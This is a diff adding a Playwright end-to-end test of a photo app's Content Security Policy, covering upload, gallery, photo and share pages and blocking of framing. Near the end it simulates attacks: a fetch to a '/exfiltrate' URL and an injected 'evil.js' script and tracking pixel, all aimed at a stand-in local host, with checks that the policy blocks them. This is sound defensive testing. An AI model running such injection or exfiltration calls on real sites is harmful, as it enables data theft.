@@ -1,0 +1,109 @@
+/**
+ * The CSP in Chromium: the app still works under it (upload PUT to storage,
+ * gallery and photo page images, share page), no page reports a single violation,
+ * and the policy really is enforced (a request, a script and an image from
+ * another origin are blocked and reported).
+ */
+import type { Browser, Page } from "playwright";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { startAppServer, type AppServer } from "./support/app-server";
+import { launchChromium, recordCspViolations, signUpInContext, violationsOf } from "./support/browser";
+import { newAccount } from "./support/http-flows";
+import { startWorld, WORLD_APP_PORT, WORLD_APP_URL, WORLD_DIST_DIR, type World } from "./support/world";
+
+let world: World;
+let app: AppServer;
+let browser: Browser;
+
+beforeAll(async () => {
+  world = await startWorld({ name: "security-csp" });
+  app = await startAppServer({ port: WORLD_APP_PORT, distDir: WORLD_DIST_DIR, appUrl: WORLD_APP_URL, env: world.env });
+  browser = await launchChromium();
+}, 900_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await app?.stop();
+  await world?.stop();
+});
+
+async function imageLoaded(page: Page, name: string) {
+  const image = page.getByRole("img", { name }).first();
+  await image.waitFor({ state: "visible", timeout: 30_000 });
+  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0), { timeout: 30_000 }).toBe(true);
+}
+
+it("upload, gallery, photo page and share page work under the CSP with zero violations; the policy blocks what it should", async () => {
+  const context = await browser.newContext({ baseURL: app.url });
+  await recordCspViolations(context);
+  await signUpInContext(context, app.url, newAccount("csp"));
+  const page = await context.newPage();
+  const consoleErrors: string[] = [];
+  page.on("console", (message) => {
+    if (message.type() === "error" && /Content.Security.Policy/i.test(message.text())) consoleErrors.push(message.text());
+  });
+
+  // Upload: the PUT goes to the storage origin (connect-src).
+  await page.goto("/");
+  const storagePut = page.waitForRequest((request) => request.method() === "PUT" && request.url().startsWith(world.env.S3_ENDPOINT!));
+  await page.getByLabel("Choose photos").setInputFiles("tests/fixtures/photos/camera-gps-landscape.jpg");
+  await storagePut;
+  await page.getByText("1 of 1 uploaded").waitFor({ timeout: 60_000 });
+  // Gallery: the thumbnail comes from storage (img-src), the placeholder is a data: URL.
+  await page.goto("/");
+  await imageLoaded(page, "camera-gps-landscape.jpg");
+  expect(await violationsOf(page)).toEqual([]);
+
+  // Photo page, and a share link made from it.
+  await page.getByRole("img", { name: "camera-gps-landscape.jpg" }).first().click();
+  await page.waitForURL(/\/photos\/[0-9a-f-]{36}$/);
+  await imageLoaded(page, "camera-gps-landscape.jpg");
+  await page.getByRole("button", { name: "Create link" }).click();
+  const link = page.getByLabel("Link to share");
+  await expect.poll(() => link.inputValue(), { timeout: 15_000 }).toMatch(/\/s\/[A-Za-z0-9_-]{43}$/);
+  const shareUrl = await link.inputValue();
+  expect(await violationsOf(page)).toEqual([]);
+
+  // The share page, as a visitor with no account.
+  const guestContext = await browser.newContext();
+  await recordCspViolations(guestContext);
+  const guest = await guestContext.newPage();
+  const response = await guest.goto(shareUrl);
+  expect(response?.status()).toBe(200);
+  expect(response?.headers()["referrer-policy"]).toBe("no-referrer");
+  await imageLoaded(guest, "camera-gps-landscape.jpg");
+  expect(await violationsOf(guest)).toEqual([]);
+  expect(consoleErrors).toEqual([]);
+
+  // Enforced, not just sent: a request, a script and an image from another origin are blocked and reported.
+  const fetched = await guest.evaluate(async () => {
+    try {
+      await fetch("http://127.0.0.1:9/exfiltrate");
+      return "fetch went out";
+    } catch {
+      return "fetch blocked";
+    }
+  });
+  expect(fetched).toBe("fetch blocked");
+  await guest.evaluate(() => {
+    const script = document.createElement("script");
+    script.src = "http://127.0.0.1:9/evil.js";
+    document.head.append(script);
+    const image = document.createElement("img");
+    image.src = "http://127.0.0.1:9/pixel.png";
+    document.body.append(image);
+  });
+  await expect.poll(async () => (await violationsOf(guest)).map((v) => v.directive).sort()).toEqual(["connect-src", "img-src", "script-src-elem"]);
+  expect((await violationsOf(guest)).every((v) => v.blocked.startsWith("http://127.0.0.1:9/"))).toBe(true);
+
+  // Framing is refused: a page that frames the app gets nothing.
+  const framer = await guestContext.newPage();
+  await framer.setContent(`<iframe src="${shareUrl}" width="400" height="300"></iframe>`);
+  await framer.waitForTimeout(1500);
+  const framed = framer.frames().find((frame) => frame.url().includes("/s/"));
+  const framedText = framed ? await framed.evaluate(() => document.body?.innerText ?? "").catch(() => "") : "";
+  expect(framedText).not.toContain("camera-gps-landscape.jpg");
+
+  await guestContext.close();
+  await context.close();
+}, 300_000);
